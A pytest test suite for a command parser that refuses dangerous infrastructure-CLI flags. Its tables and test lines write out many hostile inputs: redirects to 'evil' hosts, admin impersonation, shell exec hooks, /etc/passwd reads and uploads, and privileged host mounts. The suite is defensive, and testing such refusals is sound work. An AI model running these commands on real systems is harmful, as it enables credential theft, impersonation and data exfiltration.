"""Flags that redirect a tool, lend it another identity, run programs or touch files: in no position,
and in no spelling, do they pass.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from infrascan.commands.grammar import parse, tool
from infrascan.commands.nouns import Effect
from infrascan.commands.process import surroundings
from tests.servers.kubernetes import ApiServer

EVIL = "http://127.0.0.1:1"
# flag -> value, or None for a switch; as the rows of the mission name them
KUBECTL = {
    "--server": EVIL, "-s": EVIL, "--kubeconfig": "/tmp/k", "--token": "x", "--username": "u",
    "--password": "p", "--certificate-authority": "/tmp/c", "--client-certificate": "/tmp/c",
    "--client-key": "/tmp/k", "--exec-command": "/bin/sh", "--exec-api-version": "v1", "--as": "system:admin",
    "--as-group": "system:masters", "--as-uid": "0", "--as-user-extra": "a=b", "--cluster": "x", "--user": "x",
    "--insecure-skip-tls-verify": None, "--insecure_skip_tls_verify": None, "--tls-server-name": "x",
    "--proxy-url": EVIL, "--raw": "/api/v1/secrets", "-k": "http://evil/x", "--kustomize": "x",
    "--profile-output": "/tmp/p", "--profile": "cpu", "--cache-dir": "/tmp/c", "-v": "9", "--v": "6",
    "--vmodule": "x=9", "--template": "{{.}}", "--log-file": "/tmp/l", "--output-directory": "/tmp/d",
    "--follow": None, "--watch": None, "-w": None, "-it": None, "--stdin": None,
}  # fmt: skip
HELM = {
    "--kube-apiserver": EVIL, "--kube-token": "x", "--kube-as-user": "x", "--kube-as-group": "x",
    "--kube-ca-file": "/tmp/c", "--kube-insecure-skip-tls-verify": None, "--kube-tls-server-name": "x",
    "--kubeconfig": "/tmp/k", "--post-renderer": "/bin/sh", "--post-renderer-args": "x",
    "--plugins": "/tmp/p", "--registry-config": "/tmp/r", "--repository-config": "/tmp/r",
    "--repository-cache": "/tmp/r", "--repo": "http://evil", "--username": "u", "--password": "p",
    "--ca-file": "/tmp/c", "--cert-file": "/tmp/c", "--key-file": "/tmp/k", "--keyring": "/tmp/k",
    "--set-file": "a=/etc/passwd", "--output-dir": "/tmp/o", "--debug": None, "--pass-credentials": None,
    "--insecure-skip-tls-verify": None, "--plain-http": None,
}  # fmt: skip
AWS = {
    "--endpoint-url": EVIL, "--endpoint": EVIL, "--endpoint-u": EVIL, "--no-verify-ssl": None, "--no-verify": None,
    "--ca-bundle": "/tmp/c", "--cli-input-json": "file:///etc/passwd", "--cli-input-j": "{}", "--cli-input-yaml": "x",
    "--debug": None, "--deb": None, "--no-sign-request": None, "--with-decryption": None, "--with-d": None,
    "--prof": "other", "--regio": "x",
}  # fmt: skip
GCLOUD = {
    "--account": "x", "--acc": "x", "--impersonate-service-account": "x", "--impersonate": "x",
    "--access-token-file": "/tmp/t", "--configuration": "x", "--flags-file": "/tmp/f", "--flags": "/tmp/f",
    "--log-http": None, "--verbosity": "debug", "--trace-token": "x", "--billing-project": "x", "--proj": "x",
}  # fmt: skip
AZ = {"--debug": None, "--deb": None, "--verbose": None, "--subscr": "x", "--resource": "x"}
TERRAFORM = {
    "-chdir": "/tmp", "--chdir": "/tmp", "-var-file": "/etc/passwd", "--var-file": "/etc/passwd",
    "-state": "/tmp/s", "-state-out": "/tmp/s", "-backup": "/tmp/s", "-plugin-dir": "/tmp", "-from-module": "x",
    "-backend-config": "x", "-generate-config-out": "x.tf", "-config": "/tmp", "-raw": None,
}  # fmt: skip
DOCKER = {
    "-H": "tcp://evil", "--host": "tcp://evil", "--config": "/tmp", "--tlscacert": "/tmp/c", "--tls": None,
    "-D": None, "--debug": None, "--log-level": "debug", "--privileged": None, "-v": "/:/host",
    "--volume": "/:/host", "--mount": "type=bind", "--pid": "host", "--cap-add": "ALL", "--device": "/dev/sda",
    "--security-opt": "x", "--env-file": "/etc/passwd", "--format": "{{json .}}", "--cidfile": "/tmp/c",
}  # fmt: skip
GH = {
    "--hostname": "evil", "-H": "Authorization: x", "--header": "x", "--input": "/etc/passwd", "--include": None,
    "-F": "a=@/etc/passwd", "--body-file": "/etc/passwd", "--web": None, "-w": None, "--show-token": None,
    "--template": "x", "--cache": "1h", "-R": "evil.com/acme/web",
}  # fmt: skip
DOCTL = {
    "--access-token": "x", "-t": "x", "--api-url": EVIL, "-u": EVIL, "--config": "/tmp/c", "-c": "/tmp/c",
    "--trace": None, "--verbose": None, "-v": None,
}  # fmt: skip
HCLOUD = {"--config": "/tmp/c", "--endpoint": EVIL, "--debug": None, "--debug-file": "/tmp/d"}
HARMLESS = {
    "kubectl": (KUBECTL, ["kubectl", "get", "pods", "-n", "shop", "-A", "-o", "wide"]),
    "helm": (HELM, ["helm", "template", "web", "shop/web", "-n", "shop", "--set", "a=b"]),
    "aws": (AWS, ["aws", "ssm", "get-parameter", "--name", "x", "--output", "json"]),
    "gcloud": (GCLOUD, ["gcloud", "compute", "instances", "list", "--limit", "5", "--uri"]),
    "az": (AZ, ["az", "vm", "list", "-g", "rg", "-o", "table"]),
    "terraform": (TERRAFORM, ["terraform", "plan", "-no-color", "-target=a.b"]),
    "docker": (DOCKER, ["docker", "ps", "--filter", "status=exited", "--no-trunc"]),
    "gh": (GH, ["gh", "pr", "list", "--label", "bug", "--limit", "5"]),
    "doctl": (DOCTL, ["doctl", "compute", "droplet", "list", "--region", "fra1"]),
    "hcloud": (HCLOUD, ["hcloud", "server", "list", "-o", "json"]),
}
CASES = [(name, flag) for name, (flags, _) in HARMLESS.items() for flag in flags]


def forms(flag: str, value: str | None) -> list[list[str]]:
    """The spellings of a flag with its value."""
    if value is None:
        return [[flag], [f"{flag}=true"]]
    found = [[flag, value], [f"{flag}={value}"]]
    if not flag.startswith("--") and len(flag) == 2:
        # joined, and behind a switch: -shttp://x, -As=http://x, -Ashttp://x
        found += [[f"{flag}{value}"], [f"-A{flag[1:]}={value}"], [f"-A{flag[1:]}{value}"]]
    return found


@pytest.mark.parametrize("name", HARMLESS)
def test_what_they_are_put_into_passes_without_them(name):
    assert ("", Effect.READ) == (
        parse(HARMLESS[name][1]).refused,
        parse(HARMLESS[name][1]).effect,
    )


def test_terraform_goes_without_its_lock_only_to_plan():
    assert parse(["terraform", "plan", "-lock=false"]).effect is Effect.READ
    for vector in (["apply", "x.tfplan"], ["destroy", "-auto-approve"], ["refresh"]):
        for flag in ("-lock=false", "--lock=false", "-lock"):
            assert parse(["terraform", vector[0], flag, *vector[1:]]).refused


@pytest.mark.parametrize(("name", "flag"), CASES)
def test_a_refused_flag_passes_in_no_position_and_no_spelling(name, flag):
    flags, vector = HARMLESS[name]
    for form in forms(flag, flags[flag]):
        for at in range(1, len(vector) + 1):
            put = [*vector[:at], *form, *vector[at:]]
            assert parse(put).refused, put
            assert parse(put, pinned=True).refused, put


@pytest.mark.parametrize("line", [
    "kubectl get pods -shttp://x", "kubectl get pods -As=http://x", "kubectl get pods -o go-template-file=/etc/passwd",
    "kubectl get pods -ojsonpath-file=/etc/passwd", "kubectl get pods -o=custom-columns-file=/etc/passwd",
    "kubectl get -f /etc/passwd", "kubectl get --filename=http://evil/x", "kubectl get pods -v=6", "kubectl get pods -v9",
    "helm template web https://evil/x.tgz", "helm template web oci://evil/x", "helm show chart oci://evil/x",
    "helm show values http://evil/x", "helm template ./chart", "helm template web /etc", "helm show chart ../x",
    "helm template web shop/web -f /etc/passwd", "helm template web shop/web --values=http://evil/x",
    "aws ec2 describe-instances --filters file:///etc/passwd", "aws ec2 describe-instances --filters=file:///etc/passwd",
    "aws ec2 describe-instances --query http://evil", "aws s3 cp /etc/passwd s3://b/k", "aws s3 cp s3://b/k /etc/cron.d/x",
    "aws s3 sync . s3://b", "aws s3api get-object --bucket b --key k /tmp/x", "aws lambda invoke --function-name f /tmp/x",
    "az vm show -g @/etc/passwd",
    "az vm show -g@/etc/passwd",
    "az vm list --tag-file /etc/passwd",
    "aws ec2 create-tags --resources i-1 --tags Key=a,Value@=file:///etc/passwd",
    "aws ec2 create-tags --resources i-1 --tags-file /etc/passwd",
    "gcloud compute instances create x --startup-from-file=/etc/passwd",
    "kubectl get oauthclients -o yaml",
    "kubectl get tokens.management.cattle.io -o json", "az vm list --query=@/etc/passwd", "az rest --url http://evil",
    "gh api https://evil.com/x", "gh api //evil.com/x", "gh api repos/../../x", "gh pr view https://evil.com/a/b/pull/1",
    "terraform plan http://evil", "terraform apply -auto-approve -lock=false", "terraform destroy -lock=false -auto-approve", "docker run --network=host x", "docker run -e AWS_SECRET_ACCESS_KEY x",
])  # fmt: skip
def test_files_and_addresses_pass_in_no_other_way(line):
    parsed = parse(line.split())

    # A read with files is refused by the read tools; a write may name manifests, bound by hash.
    assert parsed.refused or parsed.files


WORDS = {
    name: sorted(
        {*vector[1:], *(flag for flag in flags), *(v for v in flags.values() if v), "--", "-"}
    )
    for name, (flags, vector) in HARMLESS.items()
}


@st.composite
def shuffled(draw):
    """A harmless command with one refused flag put in anywhere, among other words of its kind."""
    name = draw(st.sampled_from(sorted(HARMLESS)))
    flags, vector = HARMLESS[name]
    flag = draw(st.sampled_from(sorted(flags)))
    form = draw(st.sampled_from(forms(flag, flags[flag])))
    extra = draw(st.lists(st.sampled_from(WORDS[name]), max_size=4))
    body = [*vector[1:], *extra]
    at = draw(st.integers(0, len(body)))
    return name, form, [name, *body[:at], *form, *body[at:]]


@given(shuffled())
@settings(max_examples=600, deadline=None)
@example(("kubectl", ["--token=x"], ["kubectl", "get", "pods", "-n", "--", "--token=x"]))
@example(("kubectl", ["-s", "x"], ["kubectl", "get", "pods", "-A", "--", "-s", "x"]))
def test_no_interleaving_lets_a_refused_flag_through(case):
    _, _, vector = case
    parsed = parse(vector)

    assert parsed.refused, vector


@given(st.lists(st.text(max_size=8), max_size=8), st.sampled_from(sorted(HARMLESS)))
@settings(max_examples=400, deadline=None)
def test_any_words_at_all_are_read_without_an_error(words, name):
    parsed = parse([name, *words])

    assert parsed.refused or parsed.effect in set(Effect)
    if words[:1] and words[0].startswith("-") and not parsed.refused:
        assert set(parsed.flags) <= set(
            tool(name).common.replace("=", " ").replace("/", " ").split()
        )


class Evil(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture
def evil():
    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        server.asked = []
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


kubectl = pytest.mark.skipif(not shutil.which("kubectl"), reason="needs kubectl")


def forged(url: str) -> list[list[str]]:
    base = ["kubectl", "get", "pods"]
    tricks = [
        ["-s", url], [f"-s{url}"], [f"-As={url}"], [f"-As{url}"], ["--server", url], [f"--server={url}"],
        ["-n", "--", f"--server={url}"], ["-A", "-s", url], ["--", "-s", url], ["-f", f"{url}/x.yaml"],
        ["-o", "name", f"-s={url}"], [f"-oname=-s{url}"], ["-n=shop", f"--server={url}"], ["--raw", f"{url}/x"],
    ]  # fmt: skip
    return [[*base, *trick] for trick in tricks] + [
        ["kubectl", *trick, "get", "pods"] for trick in tricks
    ]


@kubectl
def test_the_real_kubectl_never_asks_another_server(evil, tmp_path):
    url = f"http://127.0.0.1:{evil.server_address[1]}"
    with ApiServer([]) as server:
        config = server.kubeconfig(tmp_path / "kubeconfig")
        variables = {"HOME": str(tmp_path), "KUBECONFIG": str(config), "PATH": os.environ["PATH"]}

        def run(vector):
            return subprocess.run(
                vector, env=surroundings("kubectl", variables), cwd=tmp_path,
                capture_output=True, timeout=30, check=False, stdin=subprocess.DEVNULL,
            )  # fmt: skip

        # The trick works on kubectl itself, or the test would show nothing.
        run(["kubectl", "get", "pods", f"-As={url}"])
        assert evil.asked
        evil.asked.clear()
        passed = [vector for vector in forged(url) if not parse(vector).refused]
        for vector in passed:
            run(vector)
        done = run(["kubectl", "get", "pods", "-A", "-o", "name"])

    assert [] == evil.asked
    assert (0, b"") == (done.returncode, done.stdout)
